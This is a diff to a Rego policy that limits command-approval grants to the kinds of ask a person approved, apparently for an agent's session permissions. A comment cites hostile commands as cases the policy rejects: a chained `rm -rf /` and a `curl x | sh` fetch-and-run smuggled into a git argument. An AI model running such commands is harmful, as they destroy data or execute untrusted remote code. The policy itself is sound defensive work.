@@ -13,7 +13,25 @@ covering_grants contains grant if {
 	is_array(input.session.grants)
 	some grant in input.session.grants
 	grant_covers_call(grant)
+	grant_covers_asks(grant)
 }
+
+# A grant covers the kinds of ask the person was shown when approving, not others a call of the
+# same prefix raises: `git push --force origin main` approved for the session covers `git push
+# -f origin topic` (the same ask, another command quoted in it), not `git push --delete`. A
+# grant without its asks (an older daemon's) covers as before.
+grant_covers_asks(grant) if not "reasons" in object.keys(grant)
+
+grant_covers_asks(grant) if {
+	is_array(grant.reasons)
+	approved := {ask_kind(reason) | some reason in grant.reasons}
+	every reason in needs_approval {
+		ask_kind(reason) in approved
+	}
+}
+
+# An ask without the command it quotes.
+ask_kind(reason) := regex.replace(reason, "`[^`]*`", "`...`")
 
 # Bash: the grant's words start every simple command of a fully parsed line, so `git push -f x`
 # is covered by "git push" but `git push -f; rm -rf /` and `git push $(curl x | sh)` are not.
